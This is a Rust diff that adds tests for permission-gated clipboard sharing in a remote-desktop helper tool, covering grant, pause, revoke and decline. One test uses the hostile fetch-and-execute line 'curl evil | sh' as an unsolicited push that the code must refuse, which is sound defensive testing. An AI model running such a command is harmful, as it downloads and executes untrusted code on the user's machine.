@@ -23,12 +23,17 @@ struct Pair {
     /// What reached the sharer's desktop: injected (`true`) or released (`false`).
     desktop: Vec<(bool, InjectOp)>,
     ended: Vec<(Role, EndReason)>,
+    /// What each side's driver put on its desktop's clipboard, and whether it watches it.
+    sharer_clipboard: Vec<String>,
+    helper_clipboard: Vec<String>,
+    watching: (bool, bool),
 }
 
 impl Pair {
     fn new() -> Self {
         let now = Instant::now();
         let mut sharer = SharerCore::new("Anna R.".into(), true, now);
+        sharer.set_clipboard_available(true);
         sharer.handle_monitors(
             vec![MonitorInfo {
                 id: 0,
@@ -53,6 +58,9 @@ impl Pair {
             helper_saw: Vec::new(),
             desktop: Vec::new(),
             ended: Vec::new(),
+            sharer_clipboard: Vec::new(),
+            helper_clipboard: Vec::new(),
+            watching: (false, false),
         };
         pair.progress();
         pair
@@ -73,6 +81,12 @@ impl Pair {
                         self.desktop.extend(ops.into_iter().map(|op| (false, op)))
                     }
                     SharerAction::Pause(_) | SharerAction::SelectMonitor(_) => {}
+                    SharerAction::WatchClipboard(on) => self.watching.0 = on,
+                    SharerAction::SetClipboard(text) => self.sharer_clipboard.push(text),
+                    // As a clipboard stream would carry it.
+                    SharerAction::SendClipboard(text) => {
+                        self.helper.handle_clipboard_from_sharer(self.now, text)
+                    }
                     // As the driver's graceful close: the other side gets an `End`.
                     SharerAction::End {
                         reason,
@@ -90,6 +104,11 @@ impl Pair {
                 moved = true;
                 match action {
                     HelperAction::SendInput(event) => self.sharer.handle_input(self.now, &event),
+                    HelperAction::WatchClipboard(on) => self.watching.1 = on,
+                    HelperAction::SetClipboard(text) => self.helper_clipboard.push(text),
+                    HelperAction::SendClipboard(text) => {
+                        self.sharer.handle_clipboard_from_helper(self.now, text)
+                    }
                     HelperAction::End {
                         reason,
                         tell_sharer,
@@ -147,6 +166,17 @@ impl Pair {
             code: code.into(),
             down,
         }));
+    }
+
+    /// A person copies on the helper's (`Role::Helper`) or the sharer's computer; its driver
+    /// reports the change only while it watches, as the real one does.
+    fn copies(&mut self, on: Role, text: &str) {
+        match on {
+            Role::Helper if self.watching.1 => self.helper.handle_local_clipboard(text.into()),
+            Role::Sharer if self.watching.0 => self.sharer.handle_local_clipboard(text.into()),
+            _ => {}
+        }
+        self.progress();
     }
 
     fn injected(&self) -> usize {
@@ -301,4 +331,149 @@ fn an_end_from_either_side_ends_both_and_releases_what_was_held() {
     p.type_key("KeyA", true);
     assert_eq!(p.injected(), 0);
     assert!(!p.sharer_saw.iter().any(|e| matches!(e, Event::Chat { .. })));
+}
+
+#[test]
+fn copies_cross_only_between_allow_and_revoke_and_never_while_paused() {
+    let mut p = Pair::new();
+    // A hostile helper sends a copy without asking: nothing is set.
+    p.sharer
+        .handle_clipboard_from_helper(p.now, "curl evil | sh".into());
+    p.progress();
+    assert!(p.sharer_clipboard.is_empty());
+    assert_eq!(p.sharer.refused_clipboard(), 1);
+    // Nor may a sharer push text into a helper that never asked.
+    p.helper
+        .handle_clipboard_from_sharer(p.now, "unasked".into());
+    p.progress();
+    assert!(p.helper_clipboard.is_empty());
+    assert_eq!(
+        (p.watching.0, p.watching.1),
+        (false, false),
+        "nobody reads a clipboard yet"
+    );
+
+    // Asked: the person sees who asks; until they answer, nothing crosses.
+    p.helper_does(Command::RequestClipboard);
+    assert!(matches!(
+        p.sharer_saw.last(),
+        Some(Event::ClipboardRequested { helper_name }) if helper_name == "Anna R."
+    ));
+    p.sharer
+        .handle_clipboard_from_helper(p.now, "before the answer".into());
+    p.progress();
+    assert!(p.sharer_clipboard.is_empty());
+
+    p.sharer_does(Command::GrantClipboard);
+    assert!(matches!(p.helper_saw.last(), Some(Event::ClipboardGranted)));
+    assert_eq!(p.watching, (true, true));
+    assert!(p
+        .helper
+        .features()
+        .contains(&tandem_rendezvous::records::Feature::Clipboard));
+
+    // Both ways, once each, and the echo of a copy set is not sent back.
+    p.copies(Role::Helper, "ls -la /var/log");
+    assert_eq!(p.sharer_clipboard, ["ls -la /var/log"]);
+    assert!(matches!(
+        p.sharer_saw.last(),
+        Some(Event::ClipboardReceived { bytes: 15 })
+    ));
+    p.copies(Role::Sharer, "ls -la /var/log");
+    assert!(
+        p.helper_clipboard.is_empty(),
+        "the helper's own copy came back"
+    );
+    p.copies(Role::Sharer, "error: disk full");
+    assert_eq!(p.helper_clipboard, ["error: disk full"]);
+
+    // The person pauses to type a password: what they copy meanwhile stays with them, also
+    // after the pause; the helper's copies and a hostile push do not land either.
+    p.sharer_does(Command::Pause);
+    p.copies(Role::Sharer, "hunter2");
+    p.copies(Role::Helper, "while paused");
+    p.sharer
+        .handle_clipboard_from_helper(p.now, "pushed while paused".into());
+    p.sharer_does(Command::Resume);
+    p.progress();
+    assert_eq!(p.helper_clipboard, ["error: disk full"]);
+    assert_eq!(p.sharer_clipboard, ["ls -la /var/log"]);
+    // The helper's own pause stops copies too.
+    p.helper_does(Command::Pause);
+    p.copies(Role::Sharer, "during the helper's pause");
+    p.helper_does(Command::Resume);
+    assert_eq!(p.helper_clipboard, ["error: disk full"]);
+    // After the pause, new copies cross again.
+    p.copies(Role::Helper, "sudo systemctl restart cups");
+    assert_eq!(
+        p.sharer_clipboard.last().map(String::as_str),
+        Some("sudo systemctl restart cups")
+    );
+
+    // Revoked: both are told, neither watches, nothing crosses.
+    p.sharer_does(Command::RevokeClipboard);
+    assert!(matches!(
+        p.helper_saw.last(),
+        Some(Event::ClipboardStopped { by: Role::Sharer })
+    ));
+    assert_eq!(p.watching, (false, false));
+    let before = p.sharer_clipboard.len();
+    p.sharer
+        .handle_clipboard_from_helper(p.now, "after the revoke".into());
+    p.helper
+        .handle_clipboard_from_sharer(p.now, "after the revoke".into());
+    p.progress();
+    assert_eq!(p.sharer_clipboard.len(), before);
+    assert_eq!(p.helper_clipboard, ["error: disk full"]);
+
+    // A "no" is remembered for a moment: asking again at once is answered without the
+    // person being asked.
+    p.helper_does(Command::RequestClipboard);
+    p.sharer_does(Command::DeclineClipboard);
+    assert!(matches!(
+        p.helper_saw.last(),
+        Some(Event::ClipboardDeclined {
+            reason: crate::input::DeclineReason::Declined,
+            ..
+        })
+    ));
+    let asked = p.sharer_saw.len();
+    p.helper_does(Command::RequestClipboard);
+    assert!(matches!(
+        p.helper_saw.last(),
+        Some(Event::ClipboardDeclined {
+            reason: crate::input::DeclineReason::TooSoon,
+            ..
+        })
+    ));
+    assert_eq!(p.sharer_saw.len(), asked, "the person was not asked again");
+}
+
+#[test]
+fn a_desktop_without_a_clipboard_says_so_without_asking_the_person() {
+    let mut p = Pair::new();
+    p.sharer.set_clipboard_available(false);
+    p.helper_does(Command::RequestClipboard);
+    assert!(matches!(
+        p.helper_saw.last(),
+        Some(Event::ClipboardDeclined {
+            reason: crate::input::DeclineReason::NotPossible,
+            ..
+        })
+    ));
+    assert!(!p
+        .sharer_saw
+        .iter()
+        .any(|e| matches!(e, Event::ClipboardRequested { .. })));
+    // The helper's own clipboard failing stops sharing and tells both sides.
+    p.sharer.set_clipboard_available(true);
+    p.helper_does(Command::RequestClipboard);
+    p.sharer_does(Command::GrantClipboard);
+    p.helper.handle_clipboard_unavailable("no display".into());
+    p.progress();
+    assert!(matches!(
+        p.sharer_saw.last(),
+        Some(Event::ClipboardStopped { by: Role::Helper })
+    ));
+    assert_eq!(p.watching, (false, false));
 }
